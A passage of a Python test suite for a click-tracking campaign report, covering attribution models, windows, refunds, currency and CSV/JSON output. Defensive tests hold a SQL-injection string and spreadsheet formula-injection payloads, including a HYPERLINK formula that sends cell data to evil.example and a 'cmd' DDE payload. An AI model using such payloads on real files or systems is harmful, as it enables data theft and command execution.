"""The campaign report and its attribution, against a real ClickHouse engine (chDB).

Hand-made cases pin each rule of SPEC section 7 (and the report's own rules) one at a time; the acceptance
test at the end generates a month of traffic and checks every row, to the cent, against a plain-Python
implementation of the same rules written independently of the SQL.
"""

from __future__ import annotations

import csv
import io
import random
from collections import defaultdict
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal, localcontext
from fractions import Fraction
from typing import Any

import pytest
from clickhouse_connect.driver.client import Client

from tests.support.clickhouse import insert_rows
from tracker.reports.attribution import MODELS
from tracker.reports.campaign import METRICS, Report, campaign_report, round_half_up
from tracker.reports.query import GROUP_KEYS, ReportQuery
from tracker.reports.spreadsheet import spreadsheet_cell
from tracker.settings import Settings

NOW = datetime(2026, 12, 1, 9, 30, tzinfo=UTC)
T = datetime(2026, 11, 10, 12, 0, tzinfo=UTC)  # "the purchase" of most hand-made cases
PERIOD = {"from": "2026-11-01", "to": "2026-11-30"}
DEFAULT = Settings.from_env({})
SMS_1D = Settings.from_env({"TRACKER_ATTRIBUTION_WINDOW_SMS": "1d"})
MS = timedelta(milliseconds=1)
HOUR = timedelta(hours=1)
DAY = timedelta(days=1)


# --- helpers ---------------------------------------------------------------------------------------------

def click(click_id: str, at: datetime, **fields: Any) -> dict[str, Any]:
    """A human SMS click of recipient r1 on campaign spring / message m1, unless told otherwise."""
    row: dict[str, Any] = {
        "click_id": click_id, "ts": at, "code": "abc", "channel": "sms", "campaign": "spring", "message": "m1",
        "utm_source": "attentive", "utm_medium": "sms", "utm_campaign": "spring", "utm_content": "",
        "utm_term": "", "tags": [], "recipient_ref": "r1", "destination_host": "shop.example", "method": "GET",
        "is_bot": False, "bot_reason": "", "device_type": "mobile", "os": "iOS", "browser": "Safari",
        "referer": "", "ip_ref": "ip1", "domain": "go.shop.example",
    }
    row.update(fields)
    return row


def purchase(order_id: str, at: datetime, value: str, **fields: Any) -> dict[str, Any]:
    """A EUR purchase with neither click id nor recipient, unless told otherwise."""
    row: dict[str, Any] = {
        "order_id": order_id, "type": "purchase", "value": Decimal(value), "currency": "EUR", "click_id": "",
        "recipient_ref": "", "ts": at, "source": "api", "verified": True,
    }
    row.update(fields)
    return row


def refund(order_id: str, at: datetime, value: str, **fields: Any) -> dict[str, Any]:
    return purchase(order_id, at, value, type="refund", **fields)


def run(client: Client, settings: Settings = DEFAULT, **params: str) -> Report:
    return campaign_report(client, ReportQuery.from_params({**PERIOD, **params}, NOW), settings)


def by(report: Report, *keys: str) -> dict[Any, dict[str, object]]:
    """Rows keyed by their group value (a tuple when grouped by more than one key)."""
    names = keys or report.query.group_by
    return {(row[names[0]] if len(names) == 1 else tuple(row[k] for k in names)): row for row in report.rows}


def credited(report: Report) -> dict[Any, Decimal]:
    """Group -> orders, for groups with any credit."""
    return {key: row["orders"] for key, row in by(report).items() if row["orders"]}  # type: ignore[misc]


# --- which clicks a purchase is credited to -------------------------------------------------------------

def test_the_click_named_by_the_purchase_beats_a_later_click_of_the_same_recipient(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 2 * HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer")],
        conversions=[purchase("o1", T, "10.00", click_id="a", recipient_ref="r1")],
    )
    assert credited(run(clickhouse)) == {"spring": 1}
    assert credited(run(clickhouse, model="first_click")) == {"spring": 1}


def test_without_its_click_a_purchase_goes_to_the_recipients_clicks_on_any_device(clickhouse: Client) -> None:
    # Tapped on the phone (a, b), bought on the laptop: the API names the buyer, the cookie is unknown here.
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 2 * HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer"),
                click("x", T - HOUR, campaign="autumn", recipient_ref="someone_else")],
        conversions=[purchase("o1", T, "10.00", click_id="laptop-cookie", recipient_ref="r1")],
    )
    assert credited(run(clickhouse)) == {"summer": 1}
    assert credited(run(clickhouse, model="first_click")) == {"spring": 1}
    assert credited(run(clickhouse, model="linear")) == {"spring": Decimal("0.5"), "summer": Decimal("0.5")}


def test_a_pixel_purchase_inherits_the_recipient_of_its_old_click(clickhouse: Client) -> None:
    # The cookie is from a tap three weeks ago (outside the window); the same person tapped again yesterday.
    insert_rows(
        clickhouse,
        clicks=[click("old", T - 21 * DAY, campaign="spring"), click("new", T - DAY, campaign="summer")],
        conversions=[purchase("o1", T, "10.00", click_id="old", source="pixel")],
    )
    assert credited(run(clickhouse)) == {"summer": 1}


def test_the_inherited_recipient_comes_even_from_a_bot_click(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("preview", T - HOUR, campaign="spring", is_bot=True), click("tap", T - DAY, campaign="summer")],
        conversions=[purchase("o1", T, "10.00", click_id="preview", source="pixel")],
    )
    assert credited(run(clickhouse)) == {"summer": 1}


def test_an_empty_recipient_never_matches(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("anonymous", T - HOUR, recipient_ref="", ip_ref="ip9")],
        conversions=[purchase("o1", T, "10.00", click_id="unknown-cookie")],
    )
    report = run(clickhouse)
    assert credited(report) == {}
    assert (report.unattributed_orders, report.unattributed_revenue) == (1, Decimal("10.00"))


def test_bot_clicks_are_counted_but_never_credited(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("preview", T - HOUR, is_bot=True, bot_reason="whatsapp_preview")],
        conversions=[purchase("o1", T, "25.00", click_id="preview", recipient_ref="r1")],
    )
    row = by(run(clickhouse))["spring"]
    assert (row["clicks"], row["human_clicks"], row["bot_clicks"], row["unique_clickers"]) == (1, 0, 1, 0)
    assert row["orders"] == 0
    assert row["conversion_rate"] is None and row["revenue_per_click"] is None and row["aov"] is None


def test_links_domains_devices_systems_and_browsers_are_group_keys(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[
            click("c1", T - HOUR, code="abc", domain="go.shop.example"),
            click("c2", T - HOUR, code="vip", domain="go.brand.example", device_type="desktop", os="Windows",
                  browser="Chrome", recipient_ref="r2"),
            click("c3", T - HOUR, code="vip", domain="go.brand.example", is_bot=True, bot_reason="preview",
                  device_type="bot", os="Other", browser="Other", recipient_ref="r2"),
        ],
        conversions=[purchase("o1", T, "40.00", click_id="c2")],
    )
    by_link = by(run(clickhouse, group_by="domain,code"), "domain", "code")
    assert set(by_link) == {("go.shop.example", "abc"), ("go.brand.example", "vip")}
    vip = by_link[("go.brand.example", "vip")]
    assert (vip["clicks"], vip["human_clicks"], vip["orders"], vip["revenue"]) == (2, 1, 1, Decimal("40.00"))
    by_device = by(run(clickhouse, group_by="device_type,os,browser"), "device_type", "os", "browser")
    assert by_device[("desktop", "Windows", "Chrome")]["revenue"] == Decimal("40.00")
    assert by_device[("mobile", "iOS", "Safari")]["clicks"] == 1
    assert by_device[("bot", "Other", "Other")]["bot_clicks"] == 1


def test_clicks_on_links_with_an_excluded_tag_are_neither_counted_nor_credited(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("qa", T - HOUR, campaign="spring", tags=["test", "vip"]),
                click("real", T - 2 * HOUR, campaign="summer", tags=["vip"])],
        conversions=[purchase("o1", T, "10.00", recipient_ref="r1")],
    )
    assert credited(run(clickhouse)) == {"spring": 1}
    report = run(clickhouse, exclude_tags=" Test ")
    assert credited(report) == {"summer": 1}
    assert "spring" not in by(report)
    assert report.query.exclude_tags == ("test",)


def test_parameter_values_are_bound_not_spliced_into_the_sql(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T, tags=["o'brien"]), click("b", T, campaign="x') OR 1=1 --")])
    assert list(by(run(clickhouse, exclude_tags="o'brien,\\"))) == ["x') OR 1=1 --"]


# --- windows ---------------------------------------------------------------------------------------------

def _window_case(clickhouse: Client) -> None:
    # One purchase per click, each naming its click; the campaign says how far before the purchase it was.
    cases = {
        "sms_same_ms": ("sms", timedelta(0)),
        "sms_1d": ("sms", DAY),
        "sms_1d_1ms": ("sms", DAY + MS),
        "email_7d": ("email", 7 * DAY),
        "email_7d_1ms": ("email", 7 * DAY + MS),
        "sms_after": ("sms", -MS),
    }
    clicks, purchases = [], []
    for i, (name, (channel, before)) in enumerate(cases.items()):
        clicks.append(click(f"c{i}", T - before, campaign=name, channel=channel, recipient_ref=f"r{i}"))
        purchases.append(purchase(f"o{i}", T, "1.00", click_id=f"c{i}"))
    insert_rows(clickhouse, clicks, purchases)


def test_per_channel_windows_include_both_edges(clickhouse: Client) -> None:
    _window_case(clickhouse)
    assert credited(run(clickhouse, SMS_1D)) == {"sms_same_ms": 1, "sms_1d": 1, "email_7d": 1}


def test_the_window_parameter_overrides_every_channel(clickhouse: Client) -> None:
    _window_case(clickhouse)
    report = run(clickhouse, SMS_1D, window="2d")
    assert credited(report) == {"sms_same_ms": 1, "sms_1d": 1, "sms_1d_1ms": 1}
    assert report.to_json()["window"] == 2 * 86400


def test_a_click_before_the_report_start_is_credited_with_a_purchase_inside_it(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", datetime(2026, 10, 31, 22, tzinfo=UTC), campaign="halloween")],
        conversions=[purchase("o1", datetime(2026, 11, 1, 8, tzinfo=UTC), "40.00", click_id="a")],
    )
    row = by(run(clickhouse))["halloween"]
    assert (row["clicks"], row["orders"], row["revenue"]) == (0, 1, Decimal("40.00"))
    assert row["conversion_rate"] is None


# --- money -----------------------------------------------------------------------------------------------

def test_only_the_report_currency_counts_and_the_default_is_the_most_common(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - HOUR)],
        conversions=[purchase("o1", T, "10.00", click_id="a"), purchase("o2", T, "20.00", click_id="a"),
                     purchase("o3", T, "99.00", click_id="a", currency="USD")],
    )
    eur = run(clickhouse)
    assert eur.currency == "EUR"
    assert by(eur)["spring"]["revenue"] == Decimal("30.00")
    usd = run(clickhouse, currency="usd")
    assert usd.currency == "USD"
    assert by(usd)["spring"]["revenue"] == Decimal("99.00")
    assert run(clickhouse, currency="JPY").rows[0]["orders"] == 0


def test_a_currency_tie_goes_to_the_first_alphabetically_and_no_purchase_gives_none(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T - HOUR)],
           [purchase("o1", T, "1.00", currency="USD"), purchase("o2", T, "1.00", currency="CHF")])
    assert run(clickhouse).currency == "CHF"
    empty = campaign_report(clickhouse, ReportQuery.from_params({"from": "2026-11-20"}, NOW), DEFAULT)
    assert empty.currency == ""
    assert empty.formula.startswith("A purchase is credited")


def test_a_refund_nets_the_rows_its_order_was_credited_to(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 2 * HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer")],
        conversions=[purchase("o1", T, "30.00", recipient_ref="r1"),
                     refund("o1", T + 40 * DAY, "12.00"),  # long after the report: still counts
                     refund("o1", T + 41 * DAY, "30.00"),  # a second refund of the same order is a duplicate
                     refund("o2", T, "5.00")]  # an order not in the report
    )
    rows = by(run(clickhouse, model="linear"))
    for campaign in ("spring", "summer"):
        row = rows[campaign]
        assert (row["revenue"], row["refunds"], row["net_revenue"]) == (Decimal("15"), Decimal("6"), Decimal("9"))
        assert row["revenue_per_click"] == Decimal("9.00")


def test_a_store_refunding_in_parts_counts_each_part_once_and_never_more_than_the_order(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - HOUR)],
        conversions=[purchase("o1", T, "30.00", click_id="a", source="shopify"),
                     refund("o1", T + DAY, "10.00", refund_id="890088186047892319", source="shopify"),
                     refund("o1", T + 2 * DAY, "5.00", refund_id="890088186047892320", source="shopify"),
                     refund("o1", T + 3 * DAY, "5.00", refund_id="890088186047892320", source="shopify"),  # again
                     purchase("o2", T, "20.00", click_id="a", source="woocommerce"),
                     refund("o2", T + DAY, "15.00", refund_id="refunded", source="woocommerce"),
                     refund("o2", T + DAY, "15.00", refund_id="731", source="woocommerce")],  # the same money
    )
    row = by(run(clickhouse))["spring"]
    assert (row["revenue"], row["refunds"], row["net_revenue"]) == (Decimal("50"), Decimal("35"), Decimal("15"))


def test_a_refund_in_another_currency_is_not_subtracted(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T - HOUR)],
           [purchase("o1", T, "30.00", click_id="a"), refund("o1", T + HOUR, "30.00", currency="USD")])
    assert by(run(clickhouse))["spring"]["refunds"] == 0


def test_the_same_order_sent_twice_counts_once_at_its_first_time(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - HOUR, campaign="spring"), click("b", T + HOUR, campaign="summer")],
        conversions=[purchase("o1", T, "10.00", click_id="a", source="pixel"),
                     purchase("o1", T + 2 * HOUR, "10.00", click_id="b", source="pixel"),  # a reload
                     # first fired in October: not a November order, however often it fires again
                     purchase("o2", datetime(2026, 10, 30, tzinfo=UTC), "50.00"),
                     purchase("o2", T, "50.00", click_id="a")],
    )
    report = run(clickhouse)
    assert credited(report) == {"spring": 1}
    assert by(report)["spring"]["revenue"] == Decimal("10.00")
    assert report.unattributed_orders == 0


def test_a_click_stored_twice_counts_once(clickhouse: Client) -> None:
    twice = click("a", T - HOUR)
    insert_rows(clickhouse, [twice, dict(twice)], [purchase("o1", T, "10.00", recipient_ref="r1")])
    row = by(run(clickhouse, model="linear"))["spring"]
    assert (row["clicks"], row["human_clicks"], row["orders"], row["revenue"]) == (1, 1, 1, Decimal("10.00"))


def test_linear_splits_a_purchase_equally_and_rounds_once_per_row(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - 3 * HOUR, campaign="spring"), click("b", T - 2 * HOUR, campaign="spring"),
                click("c", T - HOUR, campaign="summer")],
        conversions=[purchase("o1", T, "10.00", recipient_ref="r1")],
    )
    rows = by(run(clickhouse, model="linear"))
    assert (rows["spring"]["orders"], rows["spring"]["revenue"]) == (Decimal("0.6667"), Decimal("6.67"))
    assert (rows["summer"]["orders"], rows["summer"]["revenue"]) == (Decimal("0.3333"), Decimal("3.33"))
    assert rows["spring"]["aov"] == Decimal("10.00")
    assert rows["spring"]["conversion_rate"] == Decimal("0.333333")


def test_ties_in_time_go_to_the_greatest_click_id_last_and_the_smallest_first(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T - HOUR, campaign="spring"), click("b", T - HOUR, campaign="summer")],
           [purchase("o1", T, "10.00", recipient_ref="r1")])
    assert credited(run(clickhouse)) == {"summer": 1}
    assert credited(run(clickhouse, model="first_click")) == {"spring": 1}


def test_rounding_is_half_away_from_zero() -> None:
    assert round_half_up(1, 200, 2) == Decimal("0.01")
    assert round_half_up(-1, 200, 2) == Decimal("-0.01")
    assert round_half_up(-1, 201, 2) == 0
    assert round_half_up(1, 3, 4) == Decimal("0.3333")
    assert round_half_up(2, 3, 4) == Decimal("0.6667")
    assert str(round_half_up(0, 7, 2)) == "0.00"
    assert str(round_half_up(10**30 + 5, 10, 0)) == str(10**29 + 1)  # no Decimal context rounding


# --- grouping and click metrics --------------------------------------------------------------------------

def test_day_is_the_click_day_for_clicks_and_the_purchase_day_for_orders(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", datetime(2026, 11, 9, 23, tzinfo=UTC))],
        conversions=[purchase("o1", datetime(2026, 11, 10, 1, tzinfo=UTC), "10.00", click_id="a"),
                     refund("o1", datetime(2026, 11, 12, tzinfo=UTC), "4.00")],
    )
    rows = by(run(clickhouse, group_by="campaign,day"))
    assert (rows[("spring", "2026-11-09")]["clicks"], rows[("spring", "2026-11-09")]["orders"]) == (1, 0)
    assert (rows[("spring", "2026-11-10")]["clicks"], rows[("spring", "2026-11-10")]["orders"]) == (0, 1)
    assert rows[("spring", "2026-11-10")]["net_revenue"] == Decimal("6.00")


def test_every_group_key_reads_its_column(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T, channel="whatsapp", utm_source="src", utm_medium="med", campaign="cmp",
                              message="msg", utm_content="cnt", utm_term="trm", code="cde", domain="go.x.example",
                              device_type="tablet", os="Android", browser="Chrome Mobile")])
    row = run(clickhouse, group_by=",".join(GROUP_KEYS)).rows[0]
    assert [row[key] for key in GROUP_KEYS] == ["whatsapp", "src", "med", "cmp", "msg", "cnt", "trm", "2026-11-10",
                                                "cde", "go.x.example", "tablet", "Android", "Chrome Mobile"]


def test_unique_clickers_are_recipients_else_addresses_per_day(clickhouse: Client) -> None:
    insert_rows(clickhouse, [
        click("a", T), click("b", T + HOUR),  # r1 twice
        click("c", T, recipient_ref="r2", ip_ref="ip1"),  # another person on the same address
        click("d", T, recipient_ref="", ip_ref="ip7"), click("e", T + HOUR, recipient_ref="", ip_ref="ip7"),
        click("f", T + DAY, recipient_ref="", ip_ref="ip7"),  # the same address the next day: someone new
        click("g", T, recipient_ref="r3", is_bot=True),  # bots are not people
    ])
    row = run(clickhouse).rows[0]
    assert (row["clicks"], row["human_clicks"], row["unique_clickers"]) == (7, 6, 4)


def test_rows_are_sorted_by_net_revenue_then_clicks_then_keys(clickhouse: Client) -> None:
    insert_rows(
        clickhouse,
        clicks=[click("a", T - HOUR, campaign="c_low"), click("b", T - HOUR, campaign="b_none"),
                click("b2", T - HOUR, campaign="b_none"), click("c", T - HOUR, campaign="a_none"),
                click("d", T - HOUR, campaign="z_high")],
        conversions=[purchase("o1", T, "5.00", click_id="a"), purchase("o2", T, "50.00", click_id="d")],
    )
    assert [row["campaign"] for row in run(clickhouse).rows] == ["z_high", "c_low", "b_none", "a_none"]


# --- the report object -----------------------------------------------------------------------------------

def test_to_json_carries_the_query_the_formula_and_plain_numbers(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T - HOUR), click("bot", T, is_bot=True, recipient_ref="r2")],
           [purchase("o1", T, "19.99", click_id="a"), purchase("o2", T, "5.00")])
    body = run(clickhouse, SMS_1D, exclude_tags="test,internal").to_json()
    assert body["from"] == "2026-11-01T00:00:00.000Z" and body["to"] == "2026-12-01T00:00:00.000Z"
    assert (body["group_by"], body["model"], body["window"], body["view_window"], body["currency"]) == (
        ["campaign"], "last_click", None, None, "EUR")
    assert body["exclude_tags"] == ["test", "internal"]
    assert body["formula"] == (
        "A purchase in EUR is credited to the last human click on the same click id, else by the same recipient, "
        "within 7 days (SMS: 1 day) before it; bot clicks and links tagged test or internal are never credited."
    )
    assert (body["unattributed_orders"], body["unattributed_revenue"]) == (1, 5.0)
    assert body["rows"] == [{
        "campaign": "spring", "clicks": 2, "human_clicks": 1, "bot_clicks": 1, "unique_clickers": 1,
        "orders": 1.0, "revenue": 19.99, "refunds": 0.0, "net_revenue": 19.99, "aov": 19.99,
        "conversion_rate": 1.0, "revenue_per_click": 19.99, "sent": 0, "delivered": 0, "failed": 0,
        "delivery_rate": None, "click_rate": None, "click_orders": 1.0, "view_orders": 0.0, "click_revenue": 19.99,
        "view_revenue": 0.0, "revenue_per_message": None, "add_to_cart": 0.0, "checkout": 0.0, "signup": 0.0,
        "lead": 0.0, "subscriptions": 0.0, "recurring_revenue": 0.0,
    }]


def test_formula_follows_the_model_and_the_window_override(clickhouse: Client) -> None:
    assert run(clickhouse, SMS_1D, model="linear", window="90m", currency="usd").formula == (
        "A purchase in USD is split equally between the human clicks on the same click id, else by the same "
        "recipient, within 90 minutes before it; bot clicks are never credited."
    )


def test_to_csv_has_the_documented_header_and_fixed_point_numbers(clickhouse: Client) -> None:
    insert_rows(clickhouse, [click("a", T - HOUR), click("b", T - HOUR, campaign="summer", is_bot=True)],
           [purchase("o1", T, "10", click_id="a")])
    text = run(clickhouse, group_by="day,campaign").to_csv()
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == ["day", "campaign", *METRICS]
    rows = list(reader)
    assert rows[0] == {
        "day": "2026-11-10", "campaign": "spring", "clicks": "1", "human_clicks": "1", "bot_clicks": "0",
        "unique_clickers": "1", "orders": "1.0000", "revenue": "10.00", "refunds": "0.00", "net_revenue": "10.00",
        "aov": "10.00", "conversion_rate": "1.000000", "revenue_per_click": "10.00", "sent": "0", "delivered": "0",
        "failed": "0", "delivery_rate": "", "click_rate": "", "click_orders": "1.0000", "view_orders": "0.0000",
        "click_revenue": "10.00", "view_revenue": "0.00", "revenue_per_message": "", "add_to_cart": "0.0000",
        "checkout": "0.0000", "signup": "0.0000", "lead": "0.0000", "subscriptions": "0.0000",
        "recurring_revenue": "0.00",
    }
    assert rows[1]["campaign"] == "summer" and rows[1]["aov"] == "" and rows[1]["conversion_rate"] == ""




FORMULA_LABELS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
                  "\tTAB=1", "\rCR=1"]


def test_to_csv_prefixes_text_cells_a_spreadsheet_would_run_and_keeps_negative_numbers_numeric(
    clickhouse: Client,
) -> None:
    clicks = [click(f"c{n}", T - HOUR, campaign=label, recipient_ref=f"r{n}") for n, label in enumerate(FORMULA_LABELS)]
    clicks.append(click("plain", T - HOUR, campaign="spring-sale", recipient_ref="rp"))
    # More refunded than bought in the period: the campaign's net revenue is negative.
    insert_rows(clickhouse, clicks, [purchase("o1", T, "10", click_id="c0"), refund("o1", T + HOUR, "22.50")])
    report = run(clickhouse, group_by="campaign")
    rows = {row["campaign"]: row for row in csv.DictReader(io.StringIO(report.to_csv()))}
    assert sorted(rows) == sorted(["'" + label for label in FORMULA_LABELS] + ["spring-sale"])
    assert rows["'" + FORMULA_LABELS[0]]["net_revenue"] == "-12.50"  # a number, not "'-12.50"
    assert rows["'" + FORMULA_LABELS[0]]["refunds"] == "22.50"
    assert all(not value.startswith("'") for row in rows.values() for key, value in row.items() if key in METRICS)
    # The JSON keeps the labels as they are: only the CSV is for spreadsheets.
    assert sorted(row["campaign"] for row in report.to_json()["rows"]) == sorted([*FORMULA_LABELS, "spring-sale"])


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("", ""), (None, ""), (Decimal("-12.50"), "-12.50"), (-3, "-3"), (-0.25, "-0.25"),
])
def test_a_spreadsheet_cell_is_guarded_by_its_type_not_its_look(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


# --- acceptance: a generated month against an independent implementation --------------------------------

ACCEPTANCE_SETTINGS = Settings.from_env(
    {"TRACKER_ATTRIBUTION_WINDOW_SMS": "1d", "TRACKER_ATTRIBUTION_WINDOW_WHATSAPP": "2d"}
)
CAMPAIGNS = ("welcome", "black_friday", "winback", "restock", "qa_check")
CHANNELS = {"sms": "attentive", "whatsapp": "twilio", "email": "klaviyo"}


def generate_scenario(seed: int = 7) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """A month of traffic with every complication the rules talk about."""
    rng = random.Random(seed)
    clicks: list[dict[str, Any]] = []
    conversions: list[dict[str, Any]] = []
    origin = datetime(2026, 10, 20, tzinfo=UTC)
    span_ms = 45 * 86_400_000  # Oct 20 .. Dec 4: before, inside and after the report

    def at(ms: int) -> datetime:
        return origin + timedelta(milliseconds=ms)

    def new_click(recipient: str, ms: int, **fields: Any) -> dict[str, Any]:
        campaign = fields.pop("campaign", rng.choice(CAMPAIGNS))
        channel = fields.pop("channel", rng.choice(("sms", "sms", "whatsapp", "email")))
        row = click(
            f"k{len(clicks):05d}{rng.getrandbits(32):08x}", at(ms), channel=channel, campaign=campaign,
            message=f"{campaign}_m{rng.randrange(3)}", utm_source=CHANNELS[channel], utm_medium=channel,
            utm_campaign=campaign, utm_content=rng.choice(("hero", "cta", "")), utm_term=rng.choice(("", "shoes")),
            tags=["test"] if campaign == "qa_check" else rng.choice(([], [], ["vip"])),
            recipient_ref=recipient, ip_ref=f"ip{rng.randrange(1500)}", code=f"c{rng.randrange(400)}",
        )
        row.update(fields)
        clicks.append(row)
        return row

    order = 0
    for _person in range(2400):
        recipient = f"{rng.getrandbits(64):016x}"
        own: list[dict[str, Any]] = []
        for _ in range(rng.choice((0, 1, 1, 2, 3, 4))):
            ms = rng.randrange(span_ms)
            if rng.random() < 0.15:  # a link preview fetched just before the person taps
                new_click(recipient, max(0, ms - rng.randrange(1, 5000)), is_bot=True, bot_reason="preview")
            tap = new_click(recipient, ms)
            own.append(tap)
            if rng.random() < 0.2:  # repeat tap on the same link
                own.append(new_click(recipient, ms + rng.randrange(1000, 3_600_000),
                                     campaign=tap["campaign"], channel=tap["channel"]))
            if rng.random() < 0.03:  # the same click stored twice
                clicks.append(dict(tap))
        if rng.random() < 0.05:  # clicks on links without a recipient (shared link): counted by address
            new_click("", rng.randrange(span_ms))
        if not own or rng.random() < 0.45:
            continue
        for _ in range(rng.choice((1, 1, 1, 2))):
            order += 1
            order_id = f"order-{order}"
            tap = rng.choice(own)
            delay = rng.choice((rng.randrange(0, 3_600_000), rng.randrange(0, 2 * 86_400_000),
                                rng.randrange(0, 10 * 86_400_000), 0, 86_400_000, 86_400_001))  # edges too
            ts = tap["ts"] + timedelta(milliseconds=delay)
            cents = rng.randrange(100, 50_000)
            value = Decimal(cents) / 100 if rng.random() < 0.9 else Decimal(cents * 7 + 1) / 1000
            currency = "USD" if rng.random() < 0.15 else "EUR"
            how = rng.random()
            if how < 0.45:  # pixel on the same device: the click id only
                named, ref, source = tap["click_id"], "", "pixel"
            elif how < 0.7:  # API with both
                named, ref, source = tap["click_id"], recipient, "api"
            elif how < 0.85:  # cross-device: API names the buyer, the cookie is another browser's
                named, ref, source = rng.choice(("", "cookie-from-elsewhere")), recipient, "api"
            elif how < 0.93:  # pixel whose cookie is an old click of the same person
                oldest = min(own, key=lambda c: c["ts"])
                named, ref, source = oldest["click_id"], "", "pixel"
            else:  # nothing to go on
                named, ref, source = "", "", "pixel"
            conversions.append(purchase(order_id, ts, str(value), currency=currency, click_id=named,
                                        recipient_ref=ref, source=source))
            if rng.random() < 0.08:  # fired again on a reload, later
                conversions.append(purchase(order_id, ts + timedelta(seconds=rng.randrange(1, 600)), str(value),
                                            currency=currency, click_id=named, recipient_ref=ref, source="pixel"))
            if rng.random() < 0.12:
                refunded = value if rng.random() < 0.5 else (value / 3).quantize(Decimal("0.0001"))
                conversions.append(refund(order_id, ts + timedelta(days=rng.randrange(0, 40)), str(refunded),
                                          currency=currency))
            if rng.random() < 0.03:  # a signup with the same id does not count as a purchase
                conversions.append(purchase(order_id, ts, "0", type="signup", currency=""))
    rng.shuffle(clicks)
    rng.shuffle(conversions)
    return clicks, conversions


@dataclass
class _Totals:
    clicks: int = 0
    human_clicks: int = 0
    bot_clicks: int = 0
    clickers: set[tuple[str, ...]] = field(default_factory=set)
    click_orders: Fraction = Fraction(0)
    click_revenue: Fraction = Fraction(0)
    view_orders: Fraction = Fraction(0)
    view_revenue: Fraction = Fraction(0)
    refunds: Fraction = Fraction(0)
    sent: int = 0
    delivered: int = 0
    failed: int = 0
    micro: dict[str, Fraction] = field(default_factory=lambda: defaultdict(Fraction))
    subscriptions: Fraction = Fraction(0)
    recurring: Fraction = Fraction(0)


MICRO = ("add_to_cart", "checkout", "signup", "lead")
CREDITED = ("purchase", *MICRO, "subscription")


def gather_messages(rows: Sequence[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Each text once, from all its rows (SPEC sections 6-7 as the docs say it): labels from its earliest API
    row, else its earliest receipt; recipient the first known, the API's first; sent if any row says sent,
    delivered, undelivered or read; delivered at its first delivered or read; failed if failed or undelivered
    and never delivered."""
    by_id: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for row in rows:
        by_id[row["message_id"]].append(row)
    gathered = {}
    for message_id, own in by_id.items():
        statuses = {row["status"] for row in own}
        # The earliest row that has labels (an API row first): a receipt or a bare status has none.
        labelled = min(own, key=lambda r: (not (r["code"] or r["channel"] or r["campaign"]), r["source"] != "api",
                                           r["ts"]))
        known = [r for r in own if r["recipient_ref"]]
        delivered = [r["ts"] for r in own if r["status"] in ("delivered", "read")]
        gathered[message_id] = {
            **{name: labelled[name] for name in ("code", "channel", "campaign", "message", "tags", "utm_source",
                                                 "utm_medium", "utm_campaign", "utm_content", "utm_term")},
            "domain": labelled.get("domain", ""),
            "message_id": message_id,
            "recipient_ref": min(known, key=lambda r: (r["source"] != "api", r["ts"]))["recipient_ref"]
            if known else "",
            "first_ts": min(row["ts"] for row in own),
            "sent": bool(statuses & {"sent", "delivered", "undelivered", "read"}),
            "delivered_ts": min(delivered) if delivered else None,
            "failed": bool(statuses & {"failed", "undelivered"}) and not delivered,
        }
    return gathered


def _round(value: Fraction, places: int) -> Decimal:
    with localcontext() as context:
        context.prec = 60
        return (Decimal(value.numerator) / Decimal(value.denominator)).quantize(
            Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP)


def expected_report(
    clicks: list[dict[str, Any]], conversions: list[dict[str, Any]], query: ReportQuery, settings: Settings,
    messages: Sequence[dict[str, Any]] = (),
) -> tuple[str, list[dict[str, object]], int, Decimal]:
    """The rules of SPEC section 7 and the report, one conversion at a time, in plain Python.

    Purchases, micro conversions and subscriptions are credited alike; a refund follows its order (each refund
    of it once, by refund_id, the sum never above the purchase), a renewal its subscription (the earliest
    subscription of its subscription_id).
    """
    unique: dict[str, dict[str, Any]] = {}
    for c in clicks:
        unique.setdefault(c["click_id"], c)
    first: dict[tuple[str, str, str], dict[str, Any]] = {}
    for c in conversions:
        key = (c["order_id"], c["type"], c.get("refund_id", ""))
        if key not in first or c["ts"] < first[key]["ts"]:
            first[key] = c
    in_period = [c for (_, kind, _), c in first.items() if kind in CREDITED and query.start <= c["ts"] < query.end]
    purchase_counts: dict[str, int] = defaultdict(int)
    valued: dict[str, int] = defaultdict(int)
    for c in in_period:
        if c["currency"]:
